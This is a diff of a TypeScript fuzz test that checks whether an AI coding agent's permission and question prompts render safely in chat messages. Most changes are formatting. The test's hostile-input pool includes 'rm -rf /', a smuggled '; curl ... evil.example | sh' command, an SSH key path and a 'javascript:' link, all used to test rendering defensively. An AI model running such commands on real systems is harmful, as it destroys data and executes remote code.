@@ -50,8 +50,9 @@ function generator(seed: number) {
     () => String.fromCharCode(pick([0, 1, 7, 8, 11, 12, 13, 27, 127, 0x85, 0x9b])),
     () => pick(["\u00A0", "\u2007", "\u202F", "\u3000", "\u2028", "\u2029"]),
     () => pick(["👨‍👩‍👧‍👦", "🇺🇦", "🇫🇷", "👍🏽", "🏳️‍🌈", "1️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️", "😀", "🧑🏿‍💻", "e\u0301", "\uD800", "\uDC00x"]),
-    () => pick(["<b>", "</pre>", "<a href=\"javascript:alert(1)\">", "&amp;", "&lt;", "&#128512;", "&", "<", ">", '"', "'", "<tg-spoiler>", "&#x202E;"]),
-    () => pick(["rm -rf /", "; curl -s https://evil.example/x | sh", "npm test -- --reporter=dot", "/home/dev/.ssh/id_ed25519", "漢字テスト", "עברית", "مرحبا"]),
+    () => pick(["<b>", "</pre>", '<a href="javascript:alert(1)">', "&amp;", "&lt;", "&#128512;", "&", "<", ">", '"', "'", "<tg-spoiler>", "&#x202E;"]),
+    () =>
+      pick(["rm -rf /", "; curl -s https://evil.example/x | sh", "npm test -- --reporter=dot", "/home/dev/.ssh/id_ed25519", "漢字テスト", "עברית", "مرحبا"]),
     () => "x".repeat(1 + int(10_000)),
     () => "ab".repeat(1 + int(50)),
   ];
@@ -62,7 +63,8 @@ function generator(seed: number) {
 
 type Gen = ReturnType<typeof generator>;
 
-const BIDI_OR_CONTROL = /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u200B\u200C\u2060\uFEFF\u00AD\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029\uD800-\uDFFF]/u;
+const BIDI_OR_CONTROL =
+  /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u200B\u200C\u2060\uFEFF\u00AD\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029\uD800-\uDFFF]/u;
 const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
 
 function visible(html: string, limit: number, what: string): string {
@@ -98,10 +100,18 @@ function permissionRequest(gen: Gen, index: number): PermissionRequest {
   const metadata: Record<string, unknown> = {};
   if (kind === "bash" || kind === "both") metadata.command = command;
   if (kind === "edit" || kind === "read" || kind === "both") metadata.filepath = gen.text(4);
-  if (kind === "edit" || kind === "both") metadata.diff = Array.from({ length: 1 + gen.int(400) }, () => `${gen.pick(["+", "-", " "])}${gen.text(2)}`).join("\n");
+  if (kind === "edit" || kind === "both")
+    metadata.diff = Array.from({ length: 1 + gen.int(400) }, () => `${gen.pick(["+", "-", " "])}${gen.text(2)}`).join("\n");
   if (kind === "mcp") metadata.input = { nested: gen.text(2) };
   const patterns = kind === "bash" && gen.chance(0.5) ? [command] : list(gen.chance(0.2) ? 300 : 6);
-  return { id: `per_${index}`, sessionID: "ses_1", permission: kind === "mcp" ? gen.text(2) : kind === "both" ? "bash" : kind, patterns, metadata, always: list(gen.chance(0.3) ? 300 : 12) };
+  return {
+    id: `per_${index}`,
+    sessionID: "ses_1",
+    permission: kind === "mcp" ? gen.text(2) : kind === "both" ? "bash" : kind,
+    patterns,
+    metadata,
+    always: list(gen.chance(0.3) ? 300 : 12),
+  };
 }
 
 function checkPermission(prompt: PermissionPrompt, message: RenderedMessage, t: Strings, what: string): void {
@@ -124,7 +134,13 @@ function checkPermission(prompt: PermissionPrompt, message: RenderedMessage, t: 
   } else {
     expect(plain.includes(sent ? shortened : notAttached), `${what}: shortened but does not say so`).toBe(true);
     const exact = JSON.parse(full.content.slice(full.content.indexOf("{", full.content.lastIndexOf(t.permissionFile.exact))));
-    expect(exact, `${what}: the file's exact text`).toEqual({ permission: request.permission, ...(command ? { command } : {}), ...(path ? { file: path } : {}), patterns: request.patterns, always: request.always });
+    expect(exact, `${what}: the file's exact text`).toEqual({
+      permission: request.permission,
+      ...(command ? { command } : {}),
+      ...(path ? { file: path } : {}),
+      patterns: request.patterns,
+      always: request.always,
+    });
     for (const item of approved) expect(full.content.includes(reveal(item, t)), `${what}: file lacks a shown item`).toBe(true);
     nothingHidden(full.content.slice(full.content.lastIndexOf(t.permissionFile.exact)), `${what}: exact JSON`);
   }
@@ -168,7 +184,10 @@ describe("property: every rendering of hostile text stays valid, within limits, 
         const questions: QuestionInfo[] = Array.from({ length: 1 + gen.int(3) }, () => ({
           question: gen.text(6),
           header: gen.text(2),
-          options: Array.from({ length: gen.pick([0, 1, 2, 8, 9, 50, 51, 150, 300]) }, () => ({ label: gen.text(2), description: gen.chance(0.5) ? gen.text(2) : "" })),
+          options: Array.from({ length: gen.pick([0, 1, 2, 8, 9, 50, 51, 150, 300]) }, () => ({
+            label: gen.text(2),
+            description: gen.chance(0.5) ? gen.text(2) : "",
+          })),
           multiple: gen.chance(0.5),
           custom: gen.chance(0.5),
         }));
@@ -185,7 +204,10 @@ describe("property: every rendering of hostile text stays valid, within limits, 
         const first = questions[0]!;
         const range = pageRange(prompt.pages[0]!, first.options.length);
         const optionButtons = message.keyboard.flat().filter((button) => /:o:/.test(button.callback_data));
-        expect(optionButtons.map((button) => Number(button.callback_data.split(":").at(-1))), what).toEqual(Array.from({ length: range.end - range.start }, (_, i) => range.start + i));
+        expect(
+          optionButtons.map((button) => Number(button.callback_data.split(":").at(-1))),
+          what,
+        ).toEqual(Array.from({ length: range.end - range.start }, (_, i) => range.start + i));
       }
     });
 
@@ -205,9 +227,18 @@ describe("property: every rendering of hostile text stays valid, within limits, 
         if (!notSent.cut) expect(plain, `${what}: the whole instruction is quoted`).toContain(typed.replace(new RegExp(LONE_SURROGATE.source, "g"), "\uFFFD"));
         const part = () => ({
           sessions: Array.from({ length: gen.int(40) }, () => ({ title: gen.text(3), project: gen.text(2), busy: gen.chance(0.5), busyMs: gen.int(1e7) })),
-          prompts: Array.from({ length: gen.int(40) }, () => ({ kind: gen.pick(["question", "permission"]), summary: gen.text(3), project: gen.text(2), chatId: gen.pick([-1001234, 1001, -55]), messageId: 1 + gen.int(1000) })),
+          prompts: Array.from({ length: gen.int(40) }, () => ({
+            kind: gen.pick(["question", "permission"]),
+            summary: gen.text(3),
+            project: gen.text(2),
+            chatId: gen.pick([-1001234, 1001, -55]),
+            messageId: 1 + gen.int(1000),
+          })),
         });
-        const status = renderStatus([part(), part(), gen.pick([null, 7, { sessions: "x" }, part()])].map(parseStatusPart).filter((p) => p !== undefined), t);
+        const status = renderStatus(
+          [part(), part(), gen.pick([null, 7, { sessions: "x" }, part()])].map(parseStatusPart).filter((p) => p !== undefined),
+          t,
+        );
         nothingHidden(visible(status, MAX_TEXT, `${what} status`), `${what} status`);
       }
     });
